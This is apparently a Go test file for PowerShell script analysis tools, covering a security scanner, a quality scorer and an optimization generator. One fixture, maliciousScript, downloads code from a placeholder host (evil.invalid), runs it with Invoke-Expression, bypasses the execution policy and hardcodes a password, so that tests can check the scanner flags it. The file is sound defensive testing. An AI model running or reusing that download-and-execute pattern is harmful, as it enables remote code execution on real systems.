package builtins

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Morlock52/psscript-sub005/internal/tool"
)

const cleanScript = `[CmdletBinding()]
param(
    [Parameter(Mandatory)]
    [string]$Name
)

# Look up a process by name.
function Get-TargetProcess {
    try {
        Get-Process -Name $Name
    } catch {
        Write-Error "lookup failed: $_"
    }
}

Get-TargetProcess`

const maliciousScript = `$payload = (New-Object Net.WebClient).DownloadString("http://evil.invalid/x.ps1")
Invoke-Expression $payload
Set-ExecutionPolicy Bypass -Scope Process
$password = "hunter2"`

func run(t *testing.T, toolImpl tool.Tool, script string, args map[string]any) map[string]any {
	t.Helper()
	if args == nil {
		args = map[string]any{}
	}
	result, err := toolImpl.Execute(context.Background(), script, args)
	require.NoError(t, err)
	return result
}

func TestRegisterBuiltinTools(t *testing.T) {
	registry := tool.NewRegistry()
	require.NoError(t, RegisterBuiltinTools(registry))

	for _, name := range BuiltinToolNames() {
		assert.True(t, registry.Has(name), name)
	}
	assert.Len(t, registry.List(), len(BuiltinToolNames()))

	// Registering twice hits the duplicate guard.
	assert.Error(t, RegisterBuiltinTools(registry))
}

func TestAnalyzeScript(t *testing.T) {
	result := run(t, NewAnalyzeScriptTool(), cleanScript, nil)

	assert.Greater(t, result["line_count"].(int), 10)
	assert.Equal(t, true, result["has_param_block"])
	assert.Equal(t, true, result["has_cmdletbinding"])

	functions := result["functions"].([]any)
	require.Len(t, functions, 1)
	assert.Equal(t, "Get-TargetProcess", functions[0])

	// The declared function is not reported again as a command at its
	// call site.
	commands := result["commands"].([]any)
	assert.Contains(t, commands, "Get-Process")
	assert.NotContains(t, commands, "Get-TargetProcess")
}

func TestSecurityScanCleanScript(t *testing.T) {
	result := run(t, NewSecurityScanTool(), cleanScript, nil)

	assert.Equal(t, "LOW", result["risk_level"])
	assert.Equal(t, float64(0), result["risk_score"])
	assert.Equal(t, 0, result["findings_count"])

	practices := result["best_practices"].([]any)
	assert.Contains(t, practices, "Implements error handling")
	assert.Contains(t, practices, "Uses advanced function features")
}

func TestSecurityScanMaliciousScript(t *testing.T) {
	result := run(t, NewSecurityScanTool(), maliciousScript, nil)

	assert.Equal(t, "CRITICAL", result["risk_level"])
	assert.Greater(t, result["risk_score"].(float64), 30.0)

	findings := result["findings"].([]any)
	categories := make(map[string]bool)
	for _, f := range findings {
		categories[f.(map[string]any)["category"].(string)] = true
	}
	assert.True(t, categories["code_injection"])
	assert.True(t, categories["remote_code_execution"])
	assert.True(t, categories["security_bypass"])
	assert.True(t, categories["credential_exposure"])
}

func TestSecurityScanRedactsSecrets(t *testing.T) {
	result := run(t, NewSecurityScanTool(), `$password = "hunter2"`, nil)

	findings := result["findings"].([]any)
	require.NotEmpty(t, findings)
	for _, f := range findings {
		pattern := f.(map[string]any)["pattern"].(string)
		assert.NotContains(t, pattern, "hunter2")
		assert.True(t, strings.HasSuffix(pattern, "***"), pattern)
	}
}

func TestQualityAnalysisRewardsGoodPractices(t *testing.T) {
	good := run(t, NewQualityAnalysisTool(), cleanScript, nil)
	bare := run(t, NewQualityAnalysisTool(), "Get-Date", nil)

	assert.Greater(t, good["quality_score"].(float64), bare["quality_score"].(float64))

	metrics := good["metrics"].(map[string]any)
	assert.Greater(t, metrics["comment_lines"].(int), 0)

	recommendations := bare["recommendations"].([]any)
	assert.NotEmpty(t, recommendations)
}

func TestGenerateOptimizationsPipelinePatterns(t *testing.T) {
	script := `Get-Process | Where-Object { $_.CPU -gt 10 } | ForEach-Object { $_.Name }`
	result := run(t, NewGenerateOptimizationsTool(), script, nil)

	optimizations := result["optimizations"].([]any)
	assert.Equal(t, len(optimizations), result["total_optimizations"])

	var recommendations []string
	for _, o := range optimizations {
		recommendations = append(recommendations, o.(map[string]any)["recommendation"].(string))
	}
	joined := strings.Join(recommendations, "\n")
	assert.Contains(t, joined, ".ForEach()")
	assert.Contains(t, joined, ".Where()")
	assert.Contains(t, joined, "try/catch")
}

func TestGenerateOptimizationsUsesQualityMetrics(t *testing.T) {
	args := map[string]any{
		"quality_metrics": `{"metrics":{"code_lines":300,"comment_ratio":0.02}}`,
	}
	result := run(t, NewGenerateOptimizationsTool(), cleanScript, args)

	var categories []string
	for _, o := range result["optimizations"].([]any) {
		categories = append(categories, o.(map[string]any)["category"].(string))
	}
	assert.Contains(t, categories, "Maintainability")
	assert.Contains(t, categories, "Documentation")
}

func TestGenerateOptimizationsIgnoresMalformedMetrics(t *testing.T) {
	args := map[string]any{"quality_metrics": "{not json"}
	result := run(t, NewGenerateOptimizationsTool(), cleanScript, args)

	// Malformed metrics fall back to content-only recommendations.
	for _, o := range result["optimizations"].([]any) {
		assert.NotEqual(t, "Maintainability", o.(map[string]any)["category"])
	}
}
